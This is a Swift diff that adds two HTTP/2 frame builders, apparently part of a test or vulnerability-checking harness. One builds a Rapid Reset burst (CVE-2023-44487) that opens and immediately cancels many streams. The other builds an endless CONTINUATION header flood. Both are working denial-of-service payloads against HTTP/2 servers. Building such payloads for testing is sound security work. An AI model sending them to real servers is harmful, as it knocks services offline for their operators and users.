@@ -106,6 +106,35 @@ enum HTTP2Frames {
         return bytes
     }
 
+    /// Rapid reset (CVE-2023-44487) as one write: the handshake, then `pairs` streams each cancelled at once.
+    static func rapidResetBurst(path: String, authority: String, pairs: Int) -> [UInt8] {
+        var bytes = handshake()
+        let block = requestBlock(path: path, authority: authority)
+        for k in 0..<pairs {
+            let stream = UInt32(2 * k + 1)
+            // No END_STREAM: as in the CVE, the request is still open (a body could follow) when it is cancelled.
+            bytes += frame(.headers, flags: endHeaders, stream: stream, block)
+            bytes += rstStream(stream)
+        }
+        return bytes
+    }
+
+    /// A header block that never ends, as one write: the handshake, HEADERS without END_HEADERS, then `frames`
+    /// CONTINUATION frames of `bytesPerFrame` header bytes each (one endless literal value).
+    static func continuationFlood(path: String, authority: String, frames: Int, bytesPerFrame: Int) -> [UInt8] {
+        var bytes = handshake()
+        bytes += frame(.headers, flags: endStream, stream: 1, requestBlock(path: path, authority: authority))
+        var block = [0x00] + string("x-flood") + integer(frames * bytesPerFrame, prefixBits: 7, firstByte: 0x00)
+        block += [UInt8](repeating: 0x76, count: frames * bytesPerFrame - block.count)
+        var offset = 0
+        while offset < block.count {
+            let end = min(offset + bytesPerFrame, block.count)
+            bytes += frame(.continuation, stream: 1, Array(block[offset..<end]))
+            offset = end
+        }
+        return bytes
+    }
+
     /// Splits received bytes into frames (after the server's part of the handshake, which has no preface).
     static func parse(_ bytes: [UInt8]) -> [Frame] {
         var frames: [Frame] = []
